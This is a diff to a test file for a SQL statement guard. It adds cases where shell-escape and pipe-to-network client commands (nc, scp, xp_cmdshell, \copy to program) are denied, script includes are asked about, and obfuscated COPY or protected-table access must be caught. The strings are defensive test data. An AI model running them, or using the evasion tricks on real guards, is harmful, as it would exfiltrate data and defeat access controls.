@@ -52,17 +52,91 @@ describe('what hands control away is denied', () => {
     "EXEC xp_cmdshell 'dir'",
     '\\! scp a h:',
     'select 1 \\gexec',
-    '\\i /tmp/x.sql',
     '.shell scp a h:',
-    '.read /tmp/x',
-    'source /tmp/x.sql',
     'system scp a h:',
     'pager nc h 1',
-    'EXECUTE IMMEDIATE @s',
-    'PREPARE s FROM @q',
     'SELECT * FROM U&"\\006dembers"',
+    '\\copy stock to program nc',
+    "\\copy stock from program 'id'",
+    '\\set x `scp a h:`',
+    '\\o |nc h 1',
+    'select 1 \\g |nc h 1',
+    'select 1 \\g (format=csv) |nc h 1',
+    '\\edit',
+    '\\e',
+    '\\ef',
+    '\\setenv PAGER x',
+    '\\dt \\! scp a h:',
+    '\\P nc h 1',
+    '.sh scp a h:',
+    '.sy scp a h:',
+    '.once |nc h 1',
+    '.import "|scp a h:" t',
+    'select 1;\n.shell scp a h:',
+    'delimiter //\nselect 1 //\nsystem scp a h:',
+    '!scp a h:',
+    ':!!scp a h:',
+    'host scp a h:',
   ])('%s', (sql) => {
     expect(verdict(sql)).toBe('deny');
+  });
+});
+
+describe('what is not in the text is asked about', () => {
+  test.each([
+    '\\i /tmp/x.sql',
+    '\\ir x.sql',
+    '\\. /tmp/x.sql',
+    '.read /tmp/x',
+    '.rea /tmp/x',
+    'source /tmp/x.sql',
+    '@/tmp/x.sql',
+    '@@x.sql',
+    ':r x.sql',
+    'EXECUTE IMMEDIATE @s',
+    'PREPARE s FROM @q',
+    'EXEC (@sql)',
+    'EXEC sp_executesql @sql',
+    'SELECT * FROM :t',
+    'SELECT * FROM :"t"',
+    'SELECT * FROM &t',
+    'SELECT 1 FROM stock LIMIT 1 \\watch 1',
+  ])('%s', (sql) => {
+    expect(verdict(sql)).toBe('ask');
+  });
+});
+
+describe('one reading of a text hides nothing that another sees', () => {
+  test.each([
+    ['behind a psql command', '\\dt \\\\ COPY stock TO STDOUT'],
+    ['behind a command of MySQL', 'select 1 \\c COPY stock TO STDOUT'],
+    ['around a command that shows the statement', 'COPY \\p stock TO STDOUT'],
+    ['behind another delimiter', "delimiter //\nselect 1 // select 1 into outfile '/tmp/x'"],
+    ['behind a dollar delimiter', "delimiter $$\nselect 1 $$ select 1 into outfile '/tmp/x'"],
+    ["in Oracle's quotes", "select q'[']' from dual; SELECT lo_export(1, '/x') --'"],
+    ['behind an escape that is one', "SELECT '\\'' /* /* */ ' */ */; COPY stock TO STDOUT --'"],
+    ['behind a name that begins its line', 'COPY shop\n.stock TO STDOUT'],
+  ])('%s', (_, sql) => {
+    expect(verdict(sql)).toBe('needs_ticket');
+  });
+
+  test('a protected name on a line of its own is named', () => {
+    expect(judgeStatement('SELECT * FROM shop\n.members', GUARDED)).toMatchObject({
+      verdict: 'needs_ticket',
+      objects: ['shop.members'],
+    });
+  });
+
+  test.each([
+    "SELECT * FROM IDENTIFIER('shop.members')",
+    "SELECT query_to_xml('select 1', true, true, ''), 'members'::regclass",
+    '.dump members',
+    '\\copy shop.members to /tmp/x',
+    "DO $$ BEGIN EXECUTE 'TABLE ' || 'mem' || 'bers'; END $$",
+    "EXECUTE IMMEDIATE 'SELECT * FROM mem' || 'bers'",
+    "EXEC('SELECT * FROM mem' + 'bers')",
+  ])('a protected name in %s is named', (sql) => {
+    expect(judgeStatement(sql, GUARDED).objects).toEqual(['shop.members']);
   });
 });
 
@@ -132,6 +206,30 @@ describe('ordinary SQL passes', () => {
     'SELECT a.source, a.system FROM stock a',
     'source.name := 1',
     '',
+    '\\encoding utf8',
+    '\\echo hello',
+    '\\errverbose',
+    '\\pset pager off',
+    '\\timing',
+    '\\set x 1',
+    '\\x auto',
+    '\\o',
+    '\\g',
+    '\\c crm',
+    '\\connect crm',
+    'COPY stock FROM stdin;\n1\ta\n\\.\n',
+    '.schema',
+    '.headers on',
+    '.mode csv',
+    'spool off',
+    'BEGIN :x := 1; END',
+    'SELECT a::text FROM stock',
+    'DECLARE @x INT = 1',
+    'SET @x = 1',
+    'EXECUTE plan (1)',
+    'delimiter //',
+    "DO $$ BEGIN EXECUTE 'CREATE INDEX ON ' || t; END $$",
+    "DELETE OPENQUERY (linked, 'SELECT a FROM b')",
   ])('%s', (sql) => {
     expect(judgeStatement(sql, GUARDED)).toMatchObject({ verdict: 'allow', findings: [] });
   });
